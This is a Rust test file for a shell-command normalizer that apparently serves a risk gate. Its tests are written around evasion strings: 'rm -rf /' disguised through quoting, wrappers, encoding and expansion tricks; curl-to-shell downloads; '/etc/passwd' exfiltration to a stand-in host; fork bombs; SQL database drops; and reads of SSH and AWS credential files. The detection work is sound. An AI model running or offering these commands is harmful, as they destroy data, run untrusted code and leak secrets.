//! One test per normalization feature, using the evasions it must see through.

use riskgate_shell::{
    NestedLanguage, Origin, ParseIssue, ParsedCommand, Signal, SimpleCommand, StdinSource, parse,
};

fn canon(p: &ParsedCommand) -> Vec<String> {
    p.commands.iter().map(SimpleCommand::canonical).collect()
}

fn has(p: &ParsedCommand, line: &str) -> bool {
    canon(p).iter().any(|c| c == line)
}

fn get<'a>(p: &'a ParsedCommand, line: &str) -> &'a SimpleCommand {
    match p.commands.iter().find(|c| c.canonical() == line) {
        Some(c) => c,
        None => panic!("no `{line}` in {:#?}", canon(p)),
    }
}

const RMRF: &str = "rm --recursive --force /";

#[test]
fn program_names_are_canonical() {
    for src in [
        "r''m -rf /",
        "\\rm -rf /",
        "/usr/bin/rm -rf /",
        "\"rm\" -rf /",
        "r\"m\" -fr /",
        "$'\\x72\\x6d' -rf /",
        "$'r'm -rf /",
    ] {
        let p = parse(src);
        assert!(
            has(&p, RMRF) || has(&p, "rm --force --recursive /"),
            "{src}: {:?}",
            canon(&p)
        );
        assert!(p.fully_parsed, "{src}");
        assert_eq!(p.commands[0].raw_argv.len(), 3);
    }
}

#[test]
fn flag_spellings_agree() {
    for src in [
        "rm -r -f /",
        "rm -Rf /",
        "rm --recursive --force /",
        "rm -rf -- /",
    ] {
        let c = &parse(src).commands[0];
        assert!(
            c.has_flag("--recursive") && c.has_flag("--force"),
            "{src}: {}",
            c.canonical()
        );
    }
    let c = &parse("git -C /repo push -f origin main").commands[0];
    assert_eq!(c.canonical(), "git push --force origin main -C=/repo");
    assert_eq!(c.subcommand_path(1), vec!["push"]);
    assert!(parse("git push origin +main").commands[0].has_flag("--force"));
    assert!(parse("git push origin +HEAD:main").commands[0].has_flag("--force"));
    assert!(parse("git push origin :feature").commands[0].has_flag("--delete"));
    assert!(parse("git push --force-with-lease").commands[0].has_flag("--force-with-lease"));
    assert!(!parse("git push --force-with-lease").commands[0].has_flag("--force"));
    let d = &parse("git branch -D topic").commands[0];
    assert!(d.has_flag("--delete") && d.has_flag("--force"));
    let k = &parse("kubectl -n prod delete pod x --grace-period 0 --force").commands[0];
    assert_eq!(k.subcommand_path(2), vec!["delete", "pod"]);
    assert_eq!(k.flag_value("--grace-period"), Some("0"));
    assert_eq!(k.flag_value("--namespace"), Some("prod"));
    assert!(parse("terraform destroy -auto-approve").commands[0].has_flag("--auto-approve"));
    assert!(parse("find / -name x -delete").commands[0].has_flag("-delete"));
    assert!(parse("docker system prune -af").commands[0].has_flag("--all"));
    assert!(parse("sed -i 's/a/b/' f").commands[0].has_flag("--in-place"));
    assert!(parse("curl -d @/etc/passwd https://x").commands[0].has_flag("--data"));
}

#[test]
fn unterminated_quote_escalates_but_keeps_the_command() {
    let p = parse("rm -rf / \"");
    assert!(!p.fully_parsed);
    assert!(matches!(p.issues[0], ParseIssue::Syntax { .. }));
    assert!(has(&p, RMRF), "{:?}", canon(&p));
}

#[test]
fn lists_pipes_and_compounds_are_descended() {
    let src = "true && rm -rf /a; false || (rm -rf /b) & { rm -rf /c; } | cat\nif x; then rm -rf /d; fi; for f in a; do rm -rf /e; done; while y; do rm -rf /f; done; case z in *) rm -rf /g;; esac; f() { rm -rf /h; }; [[ $(rm -rf /i) ]]";
    let p = parse(src);
    for d in ["a", "b", "c", "d", "e", "f", "g", "h", "i"] {
        assert!(
            has(&p, &format!("rm --recursive --force /{d}")),
            "/{d}: {:?}",
            canon(&p)
        );
    }
    assert_eq!(
        get(&p, "rm --recursive --force /h").origin,
        Origin::Function
    );
    assert_eq!(
        get(&p, "rm --recursive --force /i").origin,
        Origin::CommandSubstitution
    );
}

#[test]
fn substitutions_everywhere() {
    for (src, origin) in [
        ("echo $(rm -rf /)", Origin::CommandSubstitution),
        ("echo `rm -rf /`", Origin::CommandSubstitution),
        ("x=$(rm -rf /)", Origin::CommandSubstitution),
        ("cat > \"$(rm -rf /)\"", Origin::CommandSubstitution),
        ("diff <(rm -rf /) x", Origin::ProcessSubstitution),
        ("tee >(rm -rf /)", Origin::ProcessSubstitution),
        ("cat <<EOF\n$(rm -rf /)\nEOF", Origin::CommandSubstitution),
        ("echo $(echo $(rm -rf /))", Origin::CommandSubstitution),
        ("echo $(( $(rm -rf /) + 1 ))", Origin::CommandSubstitution),
    ] {
        let p = parse(src);
        assert_eq!(get(&p, RMRF).origin, origin, "{src}");
    }
    assert!(!has(&parse("cat <<'EOF'\n$(rm -rf /)\nEOF"), RMRF));
}

#[test]
fn wrappers_are_unwrapped_and_remembered() {
    let p = parse("sudo -u root env X=1 nice -n 5 bash -lc 'rm -rf /'");
    let c = get(&p, RMRF);
    let names: Vec<&str> = c.wrappers.iter().map(|w| w.name.as_str()).collect();
    assert_eq!(names, ["sudo", "env", "nice", "bash -c"]);
    assert!(c.privileged);
    assert_eq!(c.origin, Origin::ShellString);
    assert_eq!(c.wrappers[0].args, ["-u", "root"]);
    for src in [
        "timeout 5 rm -rf /",
        "timeout -s KILL -k 5 10s rm -rf /",
        "nohup rm -rf / &",
        "time rm -rf /",
        "command rm -rf /",
        "builtin eval 'rm -rf /'",
        "exec -a x rm -rf /",
        "stdbuf -oL rm -rf /",
        "ionice -c 3 rm -rf /",
        "chroot /mnt rm -rf /",
        "watch -n 5 rm -rf /",
        "xargs -0 rm -rf /",
        "parallel rm -rf ::: /",
        "busybox rm -rf /",
        "sh -c 'rm -rf /'",
        "zsh -xc 'rm -rf /'",
        "dash -ec 'rm -rf /'",
        "doas rm -rf /",
        "su -c 'rm -rf /' root",
        "su root -c 'rm -rf /'",
        "pkexec rm -rf /",
        "run0 rm -rf /",
        "env -i PATH=/bin rm -rf /",
        "env -S 'rm -rf /'",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "nice -10 rm -rf /",
        "sudo -E -- rm -rf /",
        "sudo sudo rm -rf /",
        "flock /tmp/l rm -rf /",
        "setsid rm -rf /",
    ] {
        let p = parse(src);
        assert!(has(&p, RMRF), "{src}: {:?}", canon(&p));
        assert!(!get(&p, RMRF).wrappers.is_empty(), "{src}");
    }
    for src in [
        "doas rm -rf /",
        "su -c 'rm -rf /'",
        "pkexec rm -rf /",
        "run0 rm -rf /",
        "sudo bash -c '(rm -rf /)'",
    ] {
        assert!(get(&parse(src), RMRF).privileged, "{src}");
    }
    assert!(!get(&parse("nice rm -rf /"), RMRF).privileged);
    // A wrapper with nothing to run is the command itself.
    let p = parse("sudo -i");
    assert_eq!(p.commands[0].program, "sudo");
    assert!(p.commands[0].privileged);
    assert_eq!(parse("command -v rm").commands[0].program, "command");
}

#[test]
fn eval_joins_args() {
    let p = parse("eval \"rm -rf ~\"");
    assert!(has(&p, "rm --recursive --force ~"));
    let p = parse("eval rm '-rf' /");
    assert!(has(&p, RMRF));
    let p = parse("eval \"$CMD\"");
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, Signal::DynamicEval { .. }))
    );
}

#[test]
fn find_exec_and_xargs() {
    let p = parse("find / -name x -exec rm -rf {} \\;");
    assert!(
        has(&p, "find / -name x -exec rm -rf {} ;"),
        "{:?}",
        canon(&p)
    );
    // With a name filter, `{}` says which files: ROOT/**/NAME.
    let c = get(&p, "rm --recursive --force /**/x");
    assert_eq!(c.wrappers[0].name, "find -exec");
    // Without one, any file under the root: ROOT/**.
    let p = parse("find . -type d -exec rm -rf {} +");
    assert!(has(&p, "rm --recursive --force ./**"), "{:?}", canon(&p));
    let p = parse("sudo find . -execdir rm -rf {} +");
    assert!(get(&p, "rm --recursive --force ./**").privileged);
    // `sh -c`'s `$0`, `$1` and `for f;` are bound to `{}`.
    let p = parse("find /etc -type f -exec sh -c 'echo > \"$1\"' _ {} \\;");
    let c = get(&p, "echo");
    assert_eq!(c.redirects[0].target.text, "/etc/**");
    let p = parse("find /var/lib/db -exec sh -c 'shred -u \"$0\"' {} \\;");
    assert!(has(&p, "shred --remove /var/lib/db/**"), "{:?}", canon(&p));
    let p = parse("find /boot -type f -exec sh -c 'for f; do : > \"$f\"; done' sh {} +");
    assert!(
        p.commands
            .iter()
            .any(|c| c.redirects.iter().any(|r| r.target.text == "/boot/**")),
        "{:?}",
        p.commands
    );
    let p = parse("find . -print0 | xargs -0 rm -rf");
    let c = get(&p, "rm --recursive --force");
    assert_eq!(c.wrappers[0].name, "xargs");
    assert_eq!(c.stdin, Some(StdinSource::Pipe { index: 0 }));
}

#[test]
fn ssh_is_remote() {
    let p = parse("ssh -p 22 -i key user@host 'rm -rf /'");
    let c = get(&p, RMRF);
    assert_eq!(c.remote.as_deref(), Some("user@host"));
    assert_eq!(c.origin, Origin::ShellString);
    assert!(p.commands.iter().any(|c| c.program == "ssh"));
    let p = parse("ssh host sudo rm -rf /");
    assert!(get(&p, RMRF).privileged);
}

#[test]
fn heredocs_to_shells_interpreters_and_databases() {
    let p = parse("bash <<EOF\nrm -rf /\nEOF");
    assert_eq!(get(&p, RMRF).origin, Origin::Heredoc);
    let p = parse("sudo sh <<'EOF'\nrm -rf /\nEOF\necho done");
    assert!(get(&p, RMRF).privileged);
    assert!(has(&p, "echo done"));
    let p = parse("bash <<< 'rm -rf /'");
    assert_eq!(get(&p, RMRF).origin, Origin::Heredoc);
    let p = parse("psql -h db <<SQL\ndrop table x;\nSQL");
    assert_eq!(p.nested.len(), 1);
    assert_eq!(p.nested[0].language, NestedLanguage::Sql);
    assert!(p.nested[0].text.contains("drop table x"));
    let p = parse("python3 - <<'PY'\nimport shutil; shutil.rmtree('/')\nPY");
    assert_eq!(p.nested[0].language, NestedLanguage::Python);
    let p = parse("mysql -u root db <<< 'DELETE FROM users'");
    assert_eq!(p.nested[0].language, NestedLanguage::Sql);
}

#[test]
fn interpreter_and_database_one_liners() {
    for (src, lang, text) in [
        (
            "python3 -c \"import shutil; shutil.rmtree('/')\"",
            NestedLanguage::Python,
            "import shutil; shutil.rmtree('/')",
        ),
        (
            "python3.11 -Bc 'print(1)'",
            NestedLanguage::Python,
            "print(1)",
        ),
        (
            "node -e 'require(\"fs\").rmSync(\"/\")'",
            NestedLanguage::Js,
            "require(\"fs\").rmSync(\"/\")",
        ),
        ("node --eval=x()", NestedLanguage::Js, "x()"),
        (
            "deno eval 'Deno.remove(\"/\")'",
            NestedLanguage::Js,
            "Deno.remove(\"/\")",
        ),
        (
            "perl -e 'unlink glob \"*\"'",
            NestedLanguage::Perl,
            "unlink glob \"*\"",
        ),
        ("perl -ne 'print'", NestedLanguage::Perl, "print"),
        (
            "ruby -e 'FileUtils.rm_rf(\"/\")'",
            NestedLanguage::Ruby,
            "FileUtils.rm_rf(\"/\")",
        ),
        (
            "php -r 'unlink(\"x\");'",
            NestedLanguage::Php,
            "unlink(\"x\");",
        ),
        (
            "psql -c 'DROP TABLE users'",
            NestedLanguage::Sql,
            "DROP TABLE users",
        ),
        (
            "psql --command='DROP TABLE users'",
            NestedLanguage::Sql,
            "DROP TABLE users",
        ),
        (
            "mysql -u root -e 'DROP DATABASE prod'",
            NestedLanguage::Sql,
            "DROP DATABASE prod",
        ),
        (
            "mariadb --execute='DROP DATABASE prod'",
            NestedLanguage::Sql,
            "DROP DATABASE prod",
        ),
        (
            "sqlite3 app.db 'DELETE FROM t'",
            NestedLanguage::Sql,
            "DELETE FROM t",
        ),
        (
            "redis-cli -h cache FLUSHALL",
            NestedLanguage::Redis,
            "FLUSHALL",
        ),
        (
            "mongosh --eval 'db.dropDatabase()'",
            NestedLanguage::Mongo,
            "db.dropDatabase()",
        ),
    ] {
        let p = parse(src);
        assert_eq!(p.nested.len(), 1, "{src}");
        assert_eq!(p.nested[0].language, lang, "{src}");
        assert_eq!(p.nested[0].text, text, "{src}");
        assert!(p.nested[0].literal, "{src}");
    }
    let p = parse("python -c \"$CODE\"");
    assert!(!p.nested[0].literal);
}

#[test]
fn literal_assignments_propagate() {
    for (src, want) in [
        ("x=rm; $x -rf /", RMRF),
        ("D=/; rm -rf $D", RMRF),
        ("D=/ && rm -rf \"$D\"", RMRF),
        ("export D=/; rm -rf ${D}", RMRF),
        ("D=/\nbash -c \"rm -rf $D\"", RMRF),
        ("x='rm -rf'; $x /", RMRF),
        ("rm -rf ${TARGET:-/}", RMRF),
        ("rm -rf $HOME", "rm --recursive --force ~"),
        ("rm -rf ${HOME}/x", "rm --recursive --force ~/x"),
        ("rm -rf ~", "rm --recursive --force ~"),
        ("rm -rf \"$HOME/.ssh\"", "rm --recursive --force ~/.ssh"),
        ("for d in / /home; do rm -rf $d; done", RMRF),
        ("$(echo rm) -rf /", RMRF),
    ] {
        let p = parse(src);
        assert!(has(&p, want), "{src}: {:?}", canon(&p));
    }
    let p = parse("$CMD -rf /");
    assert!(p.commands[0].program_dynamic);
    assert!(p.signals.contains(&Signal::DynamicProgram { index: 0 }));
    let p = parse("rm -rf $1");
    assert!(p.commands[0].args[2].dynamic);
}

#[test]
fn downloads_into_shells() {
    for src in [
        "curl -fsSL https://x.sh | sh",
        "wget -qO- https://x | sudo bash",
        "curl https://x | bash -s -- --flag",
        "curl https://x | tee /tmp/x | python3",
        "bash <(curl -s https://x)",
        "sh -c \"$(curl -fsSL https://x)\"",
        ". <(wget -O- https://x)",
        "source <(curl https://x)",
        "bash <<< \"$(curl https://x)\"",
        "eval \"$(curl https://x)\"",
    ] {
        let p = parse(src);
        assert!(
            p.signals
                .iter()
                .any(|s| matches!(s, Signal::DownloadToShell { .. })),
            "{src}: {:?}",
            p.signals
        );
    }
    let p = parse("curl https://x | sh");
    assert_eq!(
        p.signals,
        vec![Signal::DownloadToShell {
            downloader: 0,
            shell: 1
        }]
    );
    assert!(
        !parse("curl https://x | jq .")
            .signals
            .iter()
            .any(|s| matches!(s, Signal::DownloadToShell { .. }))
    );
}

#[test]
fn encoded_payloads_are_decoded() {
    let p = parse("echo cm0gLXJmIC8= | base64 -d | sh");
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, Signal::EncodedToShell { decoded: true, .. })),
        "{:?}",
        p.signals
    );
    let c = get(&p, RMRF);
    assert_eq!(c.origin, Origin::Decoded);
    assert_eq!(c.depth, 1);
    assert_eq!(
        &p.source[c.span.start..c.span.end],
        "echo cm0gLXJmIC8= | base64 -d | sh"
    );
    for src in [
        "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
        "echo -e '\\x72\\x6d -rf /' | bash",
        "echo '/ fr- mr' | rev | sh",
        "echo 726d202d7266202f | xxd -r -p | sh",
        "base64 -d <<< cm0gLXJmIC8= | sh",
        "echo cm0gLXJmIC8= | openssl base64 -d | sh",
        "bash -c \"$(echo cm0gLXJmIC8= | base64 --decode)\"",
    ] {
        let p = parse(src);
        assert!(has(&p, RMRF), "{src}: {:?}", canon(&p));
        assert!(
            p.signals
                .iter()
                .any(|s| matches!(s, Signal::EncodedToShell { .. })),
            "{src}: {:?}",
            p.signals
        );
    }
    let p = parse("cat payload | base64 -d | sh");
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, Signal::EncodedToShell { decoded: false, .. }))
    );
    let p = parse("cat script | sh");
    assert_eq!(p.signals, vec![Signal::ShellFromStdin { index: 1 }]);
}

#[test]
fn program_text_received_or_decrypted_is_not_seen() {
    let received = |s: &Signal| matches!(s, Signal::DownloadToShell { .. });
    let hidden = |s: &Signal| matches!(s, Signal::EncodedToShell { decoded: false, .. });
    // Decrypted, decompressed, unpacked or translated: nobody saw the text.
    for src in [
        "gpg --decrypt run.sh.gpg | bash",
        "openssl enc -d -aes-256-cbc -in s.enc -pass env:K | sh",
        "age -d -i key.txt job.age | python3 -",
        "bzcat p.bz2 | perl",
        "zstd -dc s.zst | sh",
        "unzip -p bundle.zip setup.sh | sh",
        "tar -xOf bundle.tar run.sh | bash",
        "tr 'a-z' 'A-Z' < s.txt | sh",
        "bash -c \"$(sops -d ops.sh)\"",
    ] {
        let p = parse(src);
        assert!(p.signals.iter().any(hidden), "{src}: {:?}", p.signals);
    }
    // Held in a variable, or given to an interpreter as its program text.
    for src in [
        "x=$(openssl enc -d -aes-256-cbc -in p.enc -k k); bash -c \"$x\"",
        "node -e \"$(unzip -p tools.zip run.js)\"",
    ] {
        let p = parse(src);
        assert!(p.signals.iter().any(hidden), "{src}: {:?}", p.signals);
    }
    for src in [
        "python3 <(aws s3 cp s3://jobs/train.py -)",
        "c=$(curl -s https://x.example/p); eval \"$c\"",
    ] {
        let p = parse(src);
        assert!(p.signals.iter().any(received), "{src}: {:?}", p.signals);
    }
    // Data given to a program is not its code.
    let p = parse("python3 etl.py \"$(curl -s https://x.example/rows)\"");
    assert!(!p.signals.iter().any(received), "{:?}", p.signals);
    // Copied from a bucket, a host, a repository or a container to stdout.
    for src in [
        "aws s3 cp s3://jobs/run.sh - | bash",
        "gsutil cat gs://b/boot.sh | sh -s -- --prod",
        "git archive --remote=git@h:ops.git HEAD x.sh | tar -xO | sh",
        "docker cp c:/entry.sh - | tar -xO | bash",
        "az storage blob download -c s -n i.sh --file /dev/stdout | sh",
        "ssh build@ci cat /opt/next.sh | bash",
    ] {
        let p = parse(src);
        assert!(p.signals.iter().any(received), "{src}: {:?}", p.signals);
    }
    // A local file, a deletion of carriage returns, a copy to a file: at most read from stdin.
    for src in [
        "tr -d '\\r' < ci/build.sh | bash",
        "cat scripts/setup.sh | bash",
        "aws s3 cp s3://b/run.sh run.sh",
        "gpg -d notes.gpg | less",
        "ssh h 'cat /x | bash'",
    ] {
        let p = parse(src);
        assert!(
            !p.signals.iter().any(|s| received(s) || hidden(s)),
            "{src}: {:?}",
            p.signals
        );
    }
}

#[test]
fn spans_point_at_the_source() {
    let src = "cd /tmp && sudo rm -rf / 2>/dev/null; echo ok";
    let p = parse(src);
    let c = get(&p, RMRF);
    assert_eq!(&src[c.span.start..c.span.end], "sudo rm -rf / 2>/dev/null");
    let c = get(&p, "echo ok");
    assert_eq!(&src[c.span.start..c.span.end], "echo ok");
    let src = "echo é; bash -c 'rm -rf /'";
    let p = parse(src);
    let c = get(&p, RMRF);
    assert_eq!(&src[c.span.start..c.span.end], "bash -c 'rm -rf /'");
    let src = "> /etc/passwd";
    let p = parse(src);
    assert_eq!(p.commands[0].span.start, 0);
}

#[test]
fn limits_are_enforced_without_panicking() {
    let deep = format!("{}rm -rf /{}", "$(".repeat(500), ")".repeat(500));
    let p = parse(&deep);
    assert!(!p.fully_parsed);
    assert!(
        p.issues
            .iter()
            .any(|i| matches!(i, ParseIssue::Limit { .. }))
    );
    // Quoting one level inside the next grows the text fourfold per level, so nesting depth is
    // exercised with `eval`, which reparses its joined arguments without needing quotes.
    let nested = format!("{}rm -rf /", "eval ".repeat(40));
    let p = parse(&nested);
    assert!(!p.fully_parsed);
    assert!(
        p.issues
            .iter()
            .any(|i| matches!(i, ParseIssue::Limit { .. }))
    );
    let quoted = (0..6).fold("rm -rf /".to_string(), |acc, _| {
        format!("bash -c {}", shell_quote(&acc))
    });
    let p = parse(&quoted);
    assert!(p.commands.iter().any(|c| c.program == "rm"));
    let many = "true;".repeat(10_000);
    let p = parse(&many);
    assert!(p.commands.len() <= 4096);
    assert!(!p.fully_parsed);
    let big = "a".repeat(300 * 1024);
    assert!(!parse(&big).fully_parsed);
    let bomb = "a=xxxxxxxxxxxxxxxx; ".to_string()
        + &(0..30).map(|_| "a=$a$a$a$a; ").collect::<String>()
        + "echo $a";
    let _ = parse(&bomb);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn self_forking_functions_are_signalled_under_any_name() {
    for bomb in [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "x(){ x|x& };x",
        "f() {\n  f | f &\n}\nf",
    ] {
        let p = parse(bomb);
        assert!(
            p.signals
                .iter()
                .any(|s| matches!(s, riskgate_shell::Signal::RecursiveFork { .. })),
            "{bomb}: {:?}",
            p.signals
        );
    }
    // Plain recursion with one self-call is not a fork bomb.
    let p = parse("countdown() { [ $1 -gt 0 ] && countdown $(( $1 - 1 )); }; countdown 3");
    assert!(
        !p.signals
            .iter()
            .any(|s| matches!(s, riskgate_shell::Signal::RecursiveFork { .. }))
    );
}

#[test]
fn embedded_commands_are_parsed() {
    for (line, program) in [
        ("script -qc 'rm -rf ~' /dev/null", "rm"),
        ("vim -es -c '!rm -rf ~' -c 'q'", "rm"),
        ("awk 'BEGIN { system(\"rm -rf ~\") }'", "rm"),
        ("perl -e 'system(\"rm -rf ~\")'", "rm"),
        (
            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
            "rm",
        ),
    ] {
        let p = parse(line);
        assert!(
            p.commands.iter().any(|c| c.program == program),
            "{line}: {:?}",
            p.commands.iter().map(|c| &c.program).collect::<Vec<_>>()
        );
    }
    let p = parse(
        "gcloud compute ssh prod-vm --zone us-east1-b --command 'sudo rm -rf /var/lib/docker'",
    );
    let rm = p.commands.iter().find(|c| c.program == "rm").expect("rm");
    assert!(rm.privileged && rm.remote.as_deref() == Some("prod-vm"));
}

#[test]
fn program_words_expand_as_bash_would() {
    for src in ["{rm,-rf,/}", "rm${IFS}-rf${IFS}/", "x=/; {rm,-rf,$x}"] {
        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
    }
    let p = parse("curl -s https://x.example/i.sh | $SHELL");
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, Signal::DownloadToShell { .. })),
        "{:?}",
        p.signals
    );
    // A brace list in an argument expands too, into one argument per alternative.
    assert!(has(&parse("cp a.{txt,bak}"), "cp a.txt a.bak"));
    assert!(has(&parse("cp 'a.{txt,bak}'"), "cp a.{txt,bak}"));
}

#[test]
fn long_options_may_be_abbreviated() {
    assert!(has(&parse("rm --rec --forc /"), RMRF));
    assert!(has(
        &parse("git reset --ha HEAD~3"),
        "git reset --hard HEAD~3"
    ));
    // Too short, or not a prefix of one known option: left as written.
    assert!(has(&parse("rm --r /"), "rm --r /"));
}

#[test]
fn stdin_and_inputs_become_arguments_or_scripts() {
    // xargs takes literal words on its stdin as arguments; parallel its `:::` inputs.
    assert!(has(&parse("xargs rm -rf <<< /"), RMRF));
    assert!(has(&parse("xargs -a /dev/stdin rm -rf <<< /"), RMRF));
    assert!(has(&parse("parallel rm -rf ::: /"), RMRF));
    assert!(has(&parse("parallel rm -rf {} ::: /"), RMRF));
    // A heredoc on `ssh host bash` is the remote shell's script.
    let p = parse("ssh prod bash <<'EOF'\nrm -rf /\nEOF");
    assert_eq!(get(&p, RMRF).remote.as_deref(), Some("prod"));
    // at and batch read the commands they schedule from stdin.
    for src in [
        "echo 'rm -rf /' | batch",
        "echo 'rm -rf /' | at now + 1 hour",
    ] {
        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
    }
    assert!(!has(&parse("echo 'rm -rf /' | at -l"), RMRF));
}

#[test]
fn literal_process_substitutions_are_read_like_heredocs() {
    let p = parse("bash <(echo 'rm -rf /')");
    assert!(has(&p, RMRF), "{:?}", canon(&p));
    for src in [
        "psql -d app -f <(echo 'DROP TABLE users;')",
        "mysql app < <(echo 'TRUNCATE TABLE orders')",
        "psql < <(echo RFJPUCBUQUJMRSB1c2Vyczs= | base64 -d)",
    ] {
        let p = parse(src);
        assert!(
            p.nested
                .iter()
                .any(|n| n.language == NestedLanguage::Sql && n.text.contains("TABLE")),
            "{src}: {:?}",
            p.nested
        );
    }
    // Dynamic output stays unknown.
    assert!(parse("psql -f <(cat q.sql)").nested.is_empty());
}

#[test]
fn arrays_and_positional_parameters_are_propagated() {
    for src in [
        "arr=(rm -rf /); \"${arr[@]}\"",
        "a=(-rf /); rm \"${a[@]}\"",
        "set -- -rf /; rm \"$@\"",
        "set -- / x; rm -rf $1",
        "a=(x /); rm -rf ${a[1]}",
    ] {
        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
    }
    // Unknown elements stay dynamic.
    let p = parse("a=(\"$1\"); rm -rf \"${a[@]}\"");
    assert!(p.commands.iter().any(|c| c.args.iter().any(|w| w.dynamic)));
}

#[test]
fn globs_are_tried_against_well_known_credential_paths() {
    let p = parse("cat ~/.s*/id_rsa");
    assert!(has(&p, "cat ~/.s*/id_rsa ~/.ssh/id_rsa"), "{:?}", canon(&p));
    let p = parse("cat /home/$USER/.aws/cred*");
    assert!(
        canon(&p)[0].ends_with("~/.aws/credentials"),
        "{:?}",
        canon(&p)
    );
    assert!(has(&parse("ls *.txt"), "ls *.txt"));
}

#[test]
fn interpreters_running_a_module_do_not_read_code_from_stdin() {
    for src in [
        "curl -s https://api.example.com/x | python3 -mjson.tool",
        "curl -s https://api.example.com/x | python -m json.tool",
    ] {
        let p = parse(src);
        assert!(
            !p.signals
                .iter()
                .any(|s| matches!(s, Signal::DownloadToShell { .. })),
            "{src}: {:?}",
            p.signals
        );
    }
    let p = parse("curl -s https://x.example/i.py | python3");
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, Signal::DownloadToShell { .. }))
    );
}

#[test]
fn container_exec_and_terminal_multiplexers_are_unwrapped() {
    for src in [
        "docker exec -it web rm -rf /",
        "docker exec -e X=1 -u root web sh -c 'rm -rf /'",
        "docker compose exec -T web rm -rf /",
        "podman container exec web rm -rf /",
        "kubectl -n prod exec -it web-0 -- rm -rf /",
        "screen -dmS job rm -rf /",
        "tmux new -d 'rm -rf /'",
        "tmux send-keys -t main 'rm -rf /' Enter",
        "lua -e 'os.execute(\"rm -rf /\")'",
    ] {
        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
    }
    // The exec command itself stays visible to the rules about it.
    let p = parse("docker exec -it web rm -rf /");
    assert!(canon(&p).iter().any(|c| c.starts_with("docker exec")));
    // Listing sessions runs nothing.
    assert!(!has(&parse("screen -ls"), RMRF));
    assert_eq!(parse("docker ps").commands.len(), 1);
}

#[test]
fn more_runners_are_unwrapped() {
    for src in [
        // A container with a host mount acts on the host paths.
        "docker run --rm -v /:/host alpine rm -rf /host",
        "docker run --rm --mount type=bind,source=/,target=/h alpine sh -c 'rm -rf /h'",
        // sh -c SCRIPT NAME ARGS: `$1` is the first ARG.
        "sh -c 'rm -rf \"$1\"' _ /",
        // Indirect expansion and IFS splitting.
        "c='rm -rf /'; ref=c; ${!ref}",
        "IFS=,; c=rm,-rf,/; $c",
        // Package runners and rimraf.
        "npx rimraf /",
        "pnpm dlx rimraf@5 /",
        // AppleScript, Bun templates, Windows names.
        "osascript -e 'do shell script \"rm -rf /\"'",
        "bun -e 'await Bun.$`rm -rf /`'",
        "/mnt/c/Windows/System32/wsl.exe -e rm -rf /",
    ] {
        assert!(has(&parse(src), RMRF), "{src}: {:?}", canon(&parse(src)));
    }
    // Without a host mount, a container's command stays inside it.
    assert!(!has(&parse("docker run --rm alpine rm -rf /"), RMRF));
    // `$1` of a shell string does not leak into the rest of the script.
    let p = parse("sh -c 'echo $1' _ x; rm -rf \"$1\"");
    assert!(!has(&p, "rm --recursive --force x"), "{:?}", canon(&p));
    // JS templates use the environment variable's shell name.
    let p = parse("bun -e 'await Bun.$`rm -rf ${process.env.HOME}/code`'");
    assert!(has(&p, "rm --recursive --force ~/code"), "{:?}", canon(&p));
}

#[test]
fn cd_makes_later_relative_paths_absolute() {
    assert!(has(&parse("cd / && rm -rf *"), "rm --recursive --force /*"));
    assert!(has(
        &parse("cd /srv && rm -rf app"),
        "rm --recursive --force /srv/app"
    ));
    assert!(has(
        &parse("cd /srv/a && rm -rf ../b"),
        "rm --recursive --force /srv/b"
    ));
    // Unknown directory, or a program that takes no paths: as written.
    assert!(has(
        &parse("cd \"$D\" && rm -rf app"),
        "rm --recursive --force app"
    ));
    assert!(has(&parse("cd /srv && echo app"), "echo app"));
    // `ssh host <<EOF` runs the heredoc as the remote script; cross-env is env.
    assert!(has(&parse("ssh prod <<'EOF'\nrm -rf /\nEOF"), RMRF));
    assert!(has(&parse("cross-env NODE_ENV=production rm -rf /"), RMRF));
}

#[test]
fn spaced_parentheses_are_subshells_in_nested_text_too() {
    // `rm /tmp/x` also reads as arithmetic (rm / tmp / x): only adjacency makes `((`.
    for line in [
        "( ( rm -r -f /tmp/x ) )",
        "bash -c '( ( rm -r -f /tmp/x ) )'",
        "sudo bash -c '( ( rm -r -f /tmp/x ) )'",
        "echo $( ( ( rm -r -f /tmp/x ) ) )",
    ] {
        let p = parse(line);
        assert!(
            has(&p, "rm --recursive --force /tmp/x"),
            "{line}: {:?}",
            canon(&p)
        );
    }
    // Adjacent `((` is arithmetic, at the top and nested.
    assert!(!has(&parse("(( a / b ))"), "a / b"));
    assert!(canon(&parse("bash -c '(( a / b ))'")).is_empty());
}
